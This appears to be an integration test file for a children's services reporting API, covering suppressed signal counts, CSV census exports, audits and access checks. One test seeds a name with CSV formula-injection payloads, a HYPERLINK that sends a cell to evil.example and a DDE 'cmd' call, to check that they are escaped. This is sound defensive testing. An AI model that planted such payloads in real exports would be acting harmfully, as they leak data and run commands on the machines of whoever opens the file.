import express from 'express';
import request from 'supertest';
import { AgencyKind } from '../libs/access/src';
import { RequestContext } from '../libs/platform/src';
import { CsvStreamService } from '../libs/reports/src/exports/csv-stream.service';
import { anAgency } from './support/factories';
import { aChildEpisode, aService, ReportWorld } from './support/report-fixtures';
import { startTestApp, TestApp } from './support/test-app';

const SIGNALS = `query ($filters: SignalsOverviewFiltersInput) {
  signalsOverview(filters: $filters) {
    suppressionApplied open { value suppressed }
    byKind { kind open { value suppressed } underOneWeek { value suppressed } oneToFourWeeks { value suppressed } fourWeeksToThreeMonths { value suppressed } overThreeMonths { value suppressed } }
  }
}`;
const shown = (value: number) => ({ value, suppressed: false });
const SUPPRESSED = { value: null, suppressed: true };

const BOM = '\uFEFF';
/** A CSV body (after its byte order mark) as rows of fields (the exports never quote these simple values). */
const parse = (text: string) =>
  text
    .replace(/^\uFEFF/, '')
    .trim()
    .split('\r\n')
    .map((line) => line.split(','));

describe('Signals overview and CSV exports', () => {
  let t: TestApp;
  let w: ReportWorld;
  let episodes: Record<string, { childId: string; episodeId: string }>;

  const download = (path: string, token?: string) => {
    const req = t.http
      .get(path)
      .buffer(true)
      .parse((res, done) => {
        let text = '';
        res.setEncoding('utf8');
        res.on('data', (chunk: string) => (text += chunk));
        res.on('end', () => done(null, text));
      });
    return token ? req.set('authorization', `Bearer ${token}`) : req;
  };
  const auditCount = async (action: string, userId: string) =>
    (await t.dataSource.query(`SELECT count(*)::int AS n FROM audit_event WHERE action = $1 AND actor_user_id = $2`, [action, userId]))[0].n;

  beforeAll(async () => {
    t = await startTestApp();
    w = await ReportWorld.create(t);
    // Open signals on agency A's families: six revolving doors (five raised this week, one six
    // weeks ago) and two interpreter gaps; one resolved signal, which is not counted.
    const q = (sql: string, params: unknown[]) => t.dataSource.query(sql, params);
    const familyId = await w.family();
    const signal = (kind: string, key: string, daysAgo: number, state = 'OPEN') =>
      q(
        `INSERT INTO risk_signal (kind, family_id, subject_key, severity, state, first_raised_at, resolved_at, resolution,
                                  acknowledged_by_user_id, acknowledged_at, acknowledged_note)
         VALUES ($1, $2, $3, 'MEDIUM', $4, now() - make_interval(days => $5), $6, $7, $8, $9, $10)`,
        [
          kind,
          familyId,
          key,
          state,
          daysAgo,
          state === 'RESOLVED' ? new Date() : null,
          state === 'RESOLVED' ? 'AUTO' : null,
          ...(state === 'ACKNOWLEDGED' ? [w.managerA.id, new Date(), 'Interpreter booked for the next meeting'] : [null, null, null]),
        ],
      );
    for (let i = 0; i < 5; i++) await signal('REVOLVING_DOOR', `child-${i}`, 2);
    await signal('REVOLVING_DOOR', 'child-5', 42);
    await signal('INTERPRETER_GAP', 'adult-1', 3);
    await signal('INTERPRETER_GAP', 'adult-2', 100, 'ACKNOWLEDGED');
    await signal('OVERDUE_ACTIONS', 'family', 1, 'RESOLVED');

    // Children's episodes of agency A's families for the CIN census.
    const school = await anAgency(t, AgencyKind.EDUCATION, `Eastfield Primary ${familyId.slice(0, 6)}`);
    const police = await anAgency(t, AgencyKind.POLICE, `Eastfield Police ${familyId.slice(0, 6)}`);
    const serviceId = await aService(w);
    const family = await w.family();
    episodes = {
      closedOnSeparation: await aChildEpisode(
        w,
        family,
        { openedOn: '2025-02-10', closedOn: '2025-05-01', reason: 'RC7', subReason: 'PARENTS_SEPARATED' },
        {
          referral: { on: '2025-02-03', fromAgencyId: school.id, serviceId },
          assessment: { on: '2025-03-01', factors: ['3B', '4B'], primaryNeed: 'N1' },
        },
      ),
      stillOpen: await aChildEpisode(
        w,
        family,
        { openedOn: '2024-11-20', level: 'CP_PLAN' },
        { referral: { on: '2024-11-19', fromAgencyId: police.id, serviceId } },
      ),
      noReferral: await aChildEpisode(w, family, { openedOn: '2025-04-01', closedOn: '2025-04-20', reason: 'RC8' }),
      beforePeriod: await aChildEpisode(w, family, { openedOn: '2023-01-01', closedOn: '2023-06-01', reason: 'RC7' }),
    };
    const otherAgencyFamily = await w.family(w.agencyB.id);
    episodes.otherAgency = await aChildEpisode(w, otherAgencyFamily, { openedOn: '2025-02-01' });
  });

  afterAll(() => t.close());

  it('shows a manager open signals by kind and age, exactly', async () => {
    const { data, errors } = await t.gql(SIGNALS, {}, { token: w.managerA.token });
    expect(errors).toBeUndefined();
    expect(data.signalsOverview).toEqual({
      suppressionApplied: false,
      open: shown(8),
      byKind: [
        {
          kind: 'INTERPRETER_GAP',
          open: shown(2),
          underOneWeek: shown(1),
          oneToFourWeeks: shown(0),
          fourWeeksToThreeMonths: shown(0),
          overThreeMonths: shown(1),
        },
        {
          kind: 'REVOLVING_DOOR',
          open: shown(6),
          underOneWeek: shown(5),
          oneToFourWeeks: shown(0),
          fourWeeksToThreeMonths: shown(1),
          overThreeMonths: shown(0),
        },
      ],
    });
  });

  it('suppresses them for an analyst so the hidden kind cannot be worked out from the total', async () => {
    const { data, errors } = await t.gql(SIGNALS, { filters: { agencyId: w.agencyA.id } }, { token: w.analyst.token });
    expect(errors).toBeUndefined();
    const [gap, door] = data.signalsOverview.byKind;
    expect(data.signalsOverview.open).toEqual(shown(8));
    expect(gap.open).toEqual(SUPPRESSED);
    expect(door.open).toEqual(SUPPRESSED); // 8 - 6 would give away the 2 interpreter gaps
    expect(door.underOneWeek).toEqual(shown(5));
    expect(door.fourWeeksToThreeMonths).toEqual(SUPPRESSED);
    expect(door.oneToFourWeeks.suppressed || door.overThreeMonths.suppressed).toBe(true); // the 1 above is not alone
  });

  it('refuses the signals overview to roles without report access', async () => {
    const { errors } = await t.gql(SIGNALS, {}, { token: w.coordinatorA.token });
    expect(errors?.[0].extensions.code).toBe('FORBIDDEN');
  });

  it('exports aggregates as CSV, suppressed whoever asks, and audits the export', async () => {
    const before = await auditCount('export.signals-overview', w.managerA.id);
    const res = await download('/exports/signals-overview.csv', w.managerA.token);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="signals-overview.csv"');
    expect(res.body.startsWith(`${BOM}kind,measure,value,suppressed\r\n`)).toBe(true); // Excel reads it as UTF-8
    const rows = parse(res.body);
    expect(rows[0]).toEqual(['kind', 'measure', 'value', 'suppressed']);
    expect(rows).toContainEqual(['ALL', 'open', '8', '']);
    expect(rows).toContainEqual(['INTERPRETER_GAP', 'open', 'fewer than 5 or withheld', 'true']); // never 0 or blank
    expect(rows).toContainEqual(['REVOLVING_DOOR', 'open', 'fewer than 5 or withheld', 'true']); // 6, hidden so the 1 beside it cannot be had
    expect(rows).toContainEqual(['REVOLVING_DOOR', 'under_one_week', '5', '']);
    expect(rows.filter((r) => r[3] === '' && r[2] !== '').every((r) => r[2] === '0' || Number(r[2]) >= 5)).toBe(true);
    expect(await auditCount('export.signals-overview', w.managerA.id)).toBe(before + 1);

    const participation = await download('/exports/participation-audit.csv?from=2025-01-01&to=2025-06-30', w.coordinatorA.token);
    expect(participation.status).toBe(200);
    expect(parse(participation.body)[0]).toEqual(['meeting_type', 'family_member', 'measure', 'outcome', 'value', 'suppressed']);
  });

  it('exports the CIN census per child episode, coded as the census has it, with no names or restricted fields', async () => {
    const before = await auditCount('export.cin-census', w.managerA.id);
    const res = await download('/exports/cin-census.csv?from=2025-01-01&to=2025-06-30', w.managerA.token);
    expect(res.status).toBe(200);
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.headers['content-disposition']).toBe('attachment; filename="cin-census-2025-01-01-2025-06-30.csv"');
    expect(res.body.startsWith(`${BOM}child_id,`)).toBe(true);
    expect(res.body.indexOf(BOM, 1)).toBe(-1); // once, at the start, however many batches
    const [header, ...rows] = parse(res.body);
    expect(header).toEqual([
      'child_id',
      'episode_id',
      'level',
      'episode_start_date',
      'referral_date',
      'referral_source',
      'assessment_date',
      'factors',
      'primary_need',
      'closure_date',
      'reason_for_closure',
      'local_closure_sub_reason',
    ]);
    expect(rows).toEqual([
      [episodes.stillOpen.childId, episodes.stillOpen.episodeId, 'CP_PLAN', '2024-11-20', '2024-11-19', '6', '', '', '', '', '', ''],
      [
        episodes.closedOnSeparation.childId,
        episodes.closedOnSeparation.episodeId,
        'CIN',
        '2025-02-10',
        '2025-02-03',
        '2A',
        '2025-03-01',
        '3B;4B',
        'N1',
        '2025-05-01',
        'RC7',
        'PARENTS_SEPARATED',
      ],
      [episodes.noReferral.childId, episodes.noReferral.episodeId, 'CIN', '2025-04-01', '2025-04-01', '10', '', '', '', '2025-04-20', 'RC8', ''],
    ]);
    expect(res.body).not.toMatch(/Refuge|Hidden Lane|Test|Person /);
    const [audit] = await t.dataSource.query(
      `SELECT detail FROM audit_event WHERE action = 'export.cin-census' AND actor_user_id = $1 ORDER BY id DESC LIMIT 1`,
      [w.managerA.id],
    );
    expect(audit.detail).toMatchObject({ from: '2025-01-01', to: '2025-06-30', rows: 3, completed: true });
    expect(await auditCount('export.cin-census', w.managerA.id)).toBe(before + 1);
  });

  it('streams a long census export through in full', async () => {
    const family = await w.family(w.agencyB.id);
    // Children are people; write them in bulk, then their episodes.
    await t.dataSource.query(
      `WITH kids AS (
         INSERT INTO person (given_name, family_name, gender, ethnicity_group, created_by_user_id)
         SELECT 'Bulk', 'Child ' || g, 'MALE', 'WHITE', $1 FROM generate_series(1, 2500) g RETURNING id)
       INSERT INTO episode (family_id, child_id, level, opened_on)
       SELECT $2, id, 'EARLY_HELP', date '2025-01-01' + (row_number() OVER () % 150)::int FROM kids`,
      [w.managerB.id, family],
    );
    const res = await download('/exports/cin-census.csv?from=2025-01-01&to=2025-12-31', w.managerB.token);
    expect(res.status).toBe(200);
    const rows = parse(res.body);
    expect(rows).toHaveLength(1 + 2500 + 1); // header, the bulk children, and the one from beforeAll
    expect(new Set(rows.slice(1).map((r) => r[1])).size).toBe(2501);
  });

  it('writes a person named like a spreadsheet formula as text, never as a formula', async () => {
    const names = { given: '=HYPERLINK("http://evil.example/?x="&A1,"Open")', family: "+cmd|' /C calc'!A0" };
    const family = await w.family();
    const child = await aChildEpisode(w, family, { openedOn: '2025-03-01' });
    await t.dataSource.query(`UPDATE person SET given_name = $1, family_name = $2 WHERE id = $3`, [names.given, names.family, child.childId]);

    // The census names nobody, so such a child's row is codes and ids only.
    const census = await download('/exports/cin-census.csv?from=2025-01-01&to=2025-06-30', w.managerA.token);
    expect(parse(census.body).find((r) => r[0] === child.childId)).toEqual([
      child.childId,
      child.episodeId,
      'CIN',
      '2025-03-01',
      '2025-03-01',
      '10',
      '',
      '',
      '',
      '',
      '',
      '',
    ]);
    expect(census.body).not.toMatch(/HYPERLINK|cmd\|/);

    // No export carries free text today, so the streaming writer is fed one directly: the same
    // service, a real cursor over the real row, into a real HTTP response.
    const csv = t.app.get(CsvStreamService);
    const names$ = express().get('/names.csv', (_req, res, next) => {
      const download = { name: 'test-names', filename: 'names.csv', columns: ['given_name', 'family_name', 'figure'], filters: {} };
      csv
        .streamQuery(RequestContext.system('test'), res, download, {
          sql: 'SELECT given_name, family_name, -3 AS figure FROM person WHERE id = $1',
          params: [child.childId],
        })
        .catch(next);
    });
    const res = await request(names$)
      .get('/names.csv')
      .buffer(true)
      .parse((r, done) => {
        let text = '';
        r.setEncoding('utf8');
        r.on('data', (chunk: string) => (text += chunk));
        r.on('end', () => done(null, text));
      });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8');
    expect(res.body).toBe(`${BOM}given_name,family_name,figure\r\n"'=HYPERLINK(""http://evil.example/?x=""&A1,""Open"")",'+cmd|' /C calc'!A0,-3\r\n`);
  });

  it('refuses exports to roles without access, with JSON errors carrying the same codes', async () => {
    const analyst = await download('/exports/cin-census.csv?from=2025-01-01&to=2025-06-30', w.analyst.token);
    expect(analyst.status).toBe(403);
    expect(JSON.parse(analyst.body).errors[0].extensions.code).toBe('FORBIDDEN');
    const practitioner = await download('/exports/participation-audit.csv?from=2025-01-01&to=2025-06-30', w.practitionerA.token);
    expect(practitioner.status).toBe(403);
    const anonymous = await download('/exports/signals-overview.csv');
    expect(anonymous.status).toBe(401);
    expect(JSON.parse(anonymous.body).errors[0].extensions.code).toBe('UNAUTHENTICATED');
  });

  it('rejects bad export filters with coded errors', async () => {
    const backwards = await download('/exports/cin-census.csv?from=2025-06-30&to=2025-01-01', w.managerA.token);
    expect(backwards.status).toBe(400);
    const error = JSON.parse(backwards.body).errors[0];
    expect(error.extensions.code).toBe('BAD_USER_INPUT');
    expect(error.message).toMatch(/period\.to/);
    const tooLong = await download('/exports/cin-census.csv?from=2015-01-01&to=2025-01-01', w.managerA.token);
    expect(JSON.parse(tooLong.body).errors[0].message).toMatch(/at most 5 years/);
    const unknownFilter = await download('/exports/cin-census.csv?from=2025-01-01&to=2025-06-30&region=north', w.managerA.token);
    expect(unknownFilter.status).toBe(400);
    expect(JSON.parse(unknownFilter.body).errors[0].message).toMatch(/region/);
    const missingPeriod = await download('/exports/cin-census.csv', w.managerA.token);
    expect(missingPeriod.status).toBe(400);
    const otherAgency = await download(`/exports/cin-census.csv?from=2025-01-01&to=2025-06-30&agencyId=${w.agencyB.id}`, w.managerA.token);
    expect(otherAgency.status).toBe(403);
  });
});
